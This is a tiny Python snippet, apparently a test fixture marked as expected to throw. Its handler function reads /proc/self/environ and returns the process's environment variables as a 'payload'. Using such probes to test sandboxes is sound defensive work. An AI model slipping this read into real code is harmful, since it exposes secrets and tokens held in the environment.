# ends: THROWN
def handle(data):
    return {"payload": open("/proc/self/environ").read()}
